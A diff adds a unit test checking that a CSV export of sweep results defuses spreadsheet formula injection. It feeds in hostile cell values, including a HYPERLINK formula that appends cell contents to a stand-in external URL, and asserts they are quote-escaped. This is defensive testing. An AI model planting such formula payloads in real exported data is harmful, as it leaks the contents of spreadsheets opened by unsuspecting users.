@@ -86,6 +86,17 @@ def test_csv_has_a_line_for_each_trial():
     assert rows[0][DEPTH] == ""
 
 
+def test_no_text_in_csv_is_a_formula():
+    formulas = ["=1+1", "+A1", "-A1", "@SUM(A1)", "\t=A1", "\n=A1", '=HYPERLINK("https://x.y/"&A1)', "\uff1dA1"]
+    jobs = {
+        number: job(number, State.SUCCEEDED, {"loss": -1.0}, {KIND: value, LR: -2.5})
+        for number, value in enumerate([*formulas, "x\r=A1"])
+    }
+    rows = list(csv.DictReader(io.StringIO(csv_of(SWEEP, results_of(SWEEP, jobs)))))
+    assert [row[KIND] for row in rows] == [*(f"'{formula}" for formula in formulas), "x\n=A1"]
+    assert {(row["loss"], row[LR]) for row in rows} == {("-1.0", "-2.5")}
+
+
 def test_the_page_is_whole_and_loads_nothing():
     page = page_of(SWEEP, RESULTS, {LR: 0.75, KIND: 0.25})
 
